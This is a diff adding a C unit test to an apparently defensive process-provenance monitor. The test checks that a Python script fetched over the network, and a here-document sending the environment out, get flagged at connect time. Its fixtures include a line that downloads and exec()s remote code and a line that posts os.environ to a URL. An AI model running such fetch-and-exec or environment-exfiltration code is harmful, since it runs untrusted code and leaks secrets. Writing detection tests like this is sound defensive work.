@@ -396,6 +396,62 @@ static void test_capture_evaluated(void **state)
 	rmdir(dir);
 }
 
+static void connect_judged(struct world *w, struct bw_proc *p, uint16_t port)
+{
+	struct bw_connect_info c = { .family = AF_INET, .port = port };
+
+	prov_before_connect(&w->pv, &w->t, p, &c);
+	prov_on_connect(&w->pv, &w->t, p, &c, &w->rj);
+}
+
+/*
+ * A Python program not on its command line, read at its first connect: a
+ * script file, or a here-document its shell wrote into its stdin pipe.
+ */
+static void test_python_text_at_connect(void **state)
+{
+	struct world *w = *state;
+	struct bw_proc *shell = job_shell(w), *sh, *py;
+	char dir[] = "/tmp/bw-prov-py-XXXXXX", path[64];
+	FILE *f;
+
+	assert_non_null(mkdtemp(dir));
+	snprintf(path, sizeof(path), "%s/helper.py", dir);
+	f = fopen(path, "w");
+	assert_non_null(f);
+	fputs("import urllib.request as u\nr = u.urlopen(URL)\nexec(r.read())\n", f);
+	fclose(f);
+	py = fork_of(w, shell);
+	exec_as(w, py, "/usr/bin/python3.11", ARGV("python3", path), 0, 0, NULL);
+	assert_int_equal(info_of(w, py).script_prov, 0);
+	connect_judged(w, py, 443);
+	assert_int_equal(info_of(w, py).script_prov, BW_PROV_NETWORK);
+	/* a DNS query is no reason to read it; the same file run by perl is not read */
+	py = fork_of(w, shell);
+	exec_as(w, py, "/usr/bin/python3.11", ARGV("python3", path), 0, 0, NULL);
+	connect_judged(w, py, 53);
+	assert_int_equal(info_of(w, py).script_prov, 0);
+	py = fork_of(w, shell);
+	exec_as(w, py, "/usr/bin/perl", ARGV("perl", path), 0, 0, NULL);
+	connect_judged(w, py, 443);
+	assert_int_equal(info_of(w, py).script_prov, 0);
+	unlink(path);
+	rmdir(dir);
+	/* python3 - <<EOF in a bash -c program: the pipe only its shell writes */
+	sh = fork_of(w, shell);
+	exec_as(w, sh, "/usr/bin/bash",
+		ARGV("bash", "-c", "python3 - <<'PY'\nimport os, json, urllib.request as u\n"
+				   "u.urlopen(URL, data=json.dumps(dict(os.environ)).encode())\nPY\n"),
+		0, 0, NULL);
+	py = fork_of(w, sh);
+	exec_as(w, py, "/usr/bin/python3.11", ARGV("python3", "-"), 70, 0, NULL);
+	assert_int_equal(info_of(w, py).sends_prov, 0);
+	connect_judged(w, py, 443);
+	assert_true(rejudged(w, py));
+	assert_int_equal(info_of(w, py).sends_prov, BW_PROV_ENVIRONMENT);
+	assert_int_equal(info_of(w, py).script_prov, 0);
+}
+
 /*
  * A script's text handed inline to a shell by a parent that had connected
  * (subprocess.run(body, shell=True)); a one-line command is not a script,
@@ -1057,6 +1113,7 @@ int main(void)
 		cmocka_unit_test_setup_teardown(test_substitution_in_place, setup, teardown),
 		cmocka_unit_test_setup_teardown(test_capture_evaluated, setup, teardown),
 		cmocka_unit_test_setup_teardown(test_inline_script_from_parent, setup, teardown),
+		cmocka_unit_test_setup_teardown(test_python_text_at_connect, setup, teardown),
 		cmocka_unit_test_setup_teardown(test_copy_of_drop, setup, teardown),
 		cmocka_unit_test_setup_teardown(test_link_of_drop, setup, teardown),
 		cmocka_unit_test_setup_teardown(test_env_loads_drop, setup, teardown),
